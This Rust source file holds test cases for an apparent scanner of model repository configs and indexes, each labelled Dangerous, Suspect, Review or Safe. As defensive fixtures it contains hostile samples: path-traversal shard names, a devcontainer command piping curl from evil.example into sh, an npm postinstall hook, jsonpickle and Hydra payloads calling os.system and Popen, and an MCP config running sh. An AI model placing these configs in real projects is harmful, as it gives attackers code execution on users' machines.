//! Indexes that escape, documents that cannot be read, and whatever else tools run or read.

use crate::corpus::Expect::{Dangerous, Review, Safe, Suspect};
use crate::corpus::Item;

pub(super) fn items() -> Vec<Item> {
    [indexes(), documents(), objects(), running(), paths(), names()].into_iter().flatten().collect()
}

/// An index of two tensors.
fn index(first: &str, second: &str) -> String {
    format!(r#"{{"metadata": {{"total_size": 64}}, "weight_map": {{"a.weight": "{first}", "b.weight": "{second}"}}}}"#)
}

fn indexes() -> Vec<Item> {
    const NAME: &str = "model.safetensors.index.json";
    let plain = "model-00001-of-00002.safetensors";
    let escape = |name: &str, file: &str| {
        Item::new(format!("config-index-{name}"), Dangerous, NAME, index(plain, file)).fires(&["index-escape"])
    };
    vec![
        escape("climbs", "../../secret.safetensors"),
        escape("absolute", "/etc/model.safetensors"),
        escape("drive", "C:/model.safetensors"),
        escape("backslash", "..\\\\model.safetensors"),
        escape("url", "https://evil.example/model.safetensors"),
        escape("share", "//evil.example/share/model.safetensors"),
        escape("home", "~/model.safetensors"),
        escape("escaped", "%2e%2e%2fmodel.safetensors"),
        escape("dots-and-spaces", ".. /model.safetensors"),
        Item::new("config-index-pickle", Suspect, NAME, index(plain, "pytorch_model.bin")).fires(&["index-unexpected-shard"]),
        Item::new("config-index-folder", Suspect, NAME, index(plain, "more/model.safetensors")).fires(&["index-unexpected-shard"]),
        Item::new("config-index-list", Suspect, NAME, r#"{"weight_map": ["model.safetensors"]}"#).fires(&["index-unexpected-shard"]),
        Item::new("config-index-nested", Dangerous, "config.json", r#"{"parts": [{"weight_map": {"a": "../x.bin"}}]}"#)
            .fires(&["index-escape"]),
        Item::new("config-index-first-of-two", Dangerous, NAME, r#"{"weight_map": {"a": "/x.bin"}, "weight_map": {}}"#)
            .fires(&["index-escape", "json-duplicate-key"]),
        Item::new(
            "config-index-half-there",
            Suspect,
            "sub/pytorch_model.bin.index.json",
            index("pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"),
        )
        .and("sub/pytorch_model-00001-of-00002.bin", "")
        .fires(&["file-missing"]),
        Item::new(
            "config-index-left-out",
            Safe,
            "pytorch_model.bin.index.json",
            index("pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"),
        )
        .quiet(&["file-missing", "index-unexpected-shard", "index-escape"]),
        Item::new("config-index-dots-in-name", Safe, NAME, index("model..part1.safetensors", "model.v1.2.safetensors"))
            .quiet(&["index-escape", "index-unexpected-shard"]),
        Item::new(
            "config-tfjs-climbs",
            Dangerous,
            "model.json",
            r#"{"format": "layers-model", "weightsManifest": [{"paths": ["../../group1-shard1of1.bin"], "weights": []}]}"#,
        )
        .fires(&["index-escape"]),
    ]
}

fn documents() -> Vec<Item> {
    vec![
        Item::new("config-cut-off", Suspect, "config.json", r#"{"model_type": "llama", "auto_m"#)
            .fires(&["json-malformed"]),
        Item::new("config-comments", Suspect, "tsconfig.json", "{\n  // the target\n  \"compilerOptions\": {}\n}\n")
            .fires(&["json-malformed"]),
        Item::new("config-two-documents", Suspect, "config.json", "{\"a\": 1} {\"auto_map\": \"m.C\"}")
            .fires(&["json-malformed"]),
        Item::new("config-same-key", Suspect, "config.json", r#"{"model_type": "bert", "nested": {"a": 1, "a": 2}}"#)
            .fires(&["json-duplicate-key"]),
        Item::new("config-same-key-apart", Safe, "config.json", r#"{"a": {"x": 1}, "b": {"x": 2}}"#)
            .quiet(&["json-duplicate-key", "json-malformed"]),
        Item::new(
            "config-nan",
            Safe,
            "trainer_state.json",
            r#"{"log_history": [{"loss": NaN, "grad_norm": Infinity, "low": -Infinity, "note": "NaN \" Infinity"}]}"#,
        )
        .quiet(&["json-malformed"]),
        Item::new("config-rows", Safe, "data.json", "{\"text\": \"a\"}\n\n{\"text\": \"b\", \"score\": NaN}\n")
            .quiet(&["json-malformed"]),
        Item::new("config-row-broken", Suspect, "data.json", "{\"text\": \"a\"}\n{\"text\": \n")
            .fires(&["json-malformed"]),
    ]
}

fn objects() -> Vec<Item> {
    vec![
        Item::new("config-hydra-target", Dangerous, "config.json", r#"{"model": {"_target_": "os.system", "command": "id"}}"#)
            .fires(&["hydra-target"]),
        Item::new(
            "config-jsonpickle-reduce",
            Dangerous,
            "state.json",
            r#"{"py/object": "__main__.Run", "x": {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}}"#,
        )
        .fires(&["json-call"]),
        Item::new("config-jsonpickle-repr", Dangerous, "state.json", r#"{"x": {"py/repr": "os/os.getcwd()"}}"#).fires(&["json-call"]),
        Item::new("config-jsonpickle-popen", Dangerous, "state.json", r#"{"py/object": "subprocess.Popen", "args": "id"}"#)
            .fires(&["json-call"]),
        Item::new(
            "config-jsonpickle-honest",
            Review,
            "state.json",
            r#"{"py/object": "my_app.Settings", "seen": {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": [[]]}]}}"#,
        )
        .fires(&["json-object"])
        .quiet(&["json-call"]),
        Item::new(
            "config-langchain-constructor",
            Suspect,
            "prompt.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain", "llms", "OpenAI"], "kwargs": {"key": {"lc": 1, "type": "secret", "id": ["KEY"]}}}"#,
        )
        .fires(&["json-object"]),
        Item::new("config-constructor-of-nothing", Safe, "parts.json", r#"{"type": "constructor", "id": ["wheel", "axle"]}"#)
            .quiet(&["json-object"]),
    ]
}

fn running() -> Vec<Item> {
    vec![
        Item::new(
            "config-native-operators",
            Suspect,
            "genai_config.json",
            r#"{"model": {"decoder": {"filename": "model.onnx", "session_options": {"custom_ops_library": "libevil.so"}}}}"#,
        )
        .fires(&["config-native-library"]),
        Item::new(
            "config-genai",
            Safe,
            "genai_config.json",
            r#"{"model": {"decoder": {"filename": "model.onnx", "session_options": {"log_id": "onnxruntime-genai"}}, "type": "phi3"}}"#,
        )
        .quiet(&["config-native-library", "config-command"]),
        Item::new("config-dev-container", Suspect, ".devcontainer/devcontainer.json", r#"{"image": "x", "postCreateCommand": "curl https://evil.example | sh"}"#)
            .fires(&["config-command"]),
        Item::new("config-npm-hook", Suspect, "package.json", r#"{"name": "x", "scripts": {"postinstall": "node evil.js"}}"#)
            .fires(&["config-command"]),
        Item::new("config-npm", Safe, "package.json", r#"{"name": "x", "scripts": {"dev": "vite", "build": "vite build"}}"#)
            .quiet(&["config-command"]),
        Item::new("config-assistant-server", Suspect, ".mcp.json", r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}"#)
            .fires(&["config-command"]),
        Item::new(
            "config-torchserve",
            Review,
            "MAR-INF/MANIFEST.json",
            r#"{"createdOn": "01/01/2024", "runtime": "python", "model": {"modelName": "x", "serializedFile": "model.pt", "handler": "my_handler.py", "modelVersion": "1.0"}}"#,
        )
        .fires(&["auto-map"]),
    ]
}

fn paths() -> Vec<Item> {
    vec![
        Item::new(
            "config-trust-argument",
            Suspect,
            "sentence_bert_config.json",
            r#"{"max_seq_length": 512, "model_args": {"trust_remote_code": true}}"#,
        )
        .fires(&["config-trust-argument"]),
        Item::new("config-trust-saved", Safe, "tokenizer_config.json", r#"{"tokenizer_class": "GPT2Tokenizer", "trust_remote_code": true}"#)
            .fires(&["config-trust"])
            .quiet(&["config-trust-argument"]),
        Item::new("config-trust-not", Safe, "tokenizer_config.json", r#"{"tokenizer_class": "GPT2Tokenizer", "trust_remote_code": false}"#)
            .quiet(&["config-trust"]),
        Item::new("config-vocabulary-on-share", Suspect, "tokenizer_config.json", r#"{"vocab_file": "\\\\evil.example\\share\\vocab.json"}"#)
            .fires(&["config-network-path"]),
        Item::new(
            "config-trained-at",
            Safe,
            "tokenizer_config.json",
            r#"{"name_or_path": "/home/me/out", "tokenizer_file": "/root/.cache/huggingface/hub/tokenizer.json", "special_tokens_map_file": "../base/special_tokens_map.json"}"#,
        )
        .fires(&["config-local-path"])
        .quiet(&["config-network-path", "config-path-escape"]),
        Item::new("config-not-trained-at", Safe, "config.json", r#"{"_name_or_path": "google-bert/bert-base-uncased"}"#)
            .quiet(&["config-local-path"]),
        Item::new(
            "config-template-escapes",
            Suspect,
            "tokenizer_config.json",
            r#"{"chat_template": [{"name": "../../hook", "template": "{{ messages[0].content }}"}]}"#,
        )
        .fires(&["config-path-escape"]),
    ]
}

fn names() -> Vec<Item> {
    vec![
        Item::new("config-case-collision", Suspect, "config.json", "{}")
            .and("Config.json", "{}")
            .fires(&["deceptive-name"]),
        Item::new("config-folder-collision", Suspect, "unet/config.json", "{}")
            .and("UNet/model.json", "{}")
            .fires(&["deceptive-name"]),
        Item::new("config-composed-collision", Suspect, "caf\u{e9}.json", "{}")
            .and("cafe\u{301}.json", "{}")
            .fires(&["deceptive-name"]),
        Item::new("config-same-name-apart", Safe, "unet/config.json", "{}")
            .and("vae/config.json", "{}")
            .quiet(&["deceptive-name"]),
    ]
}
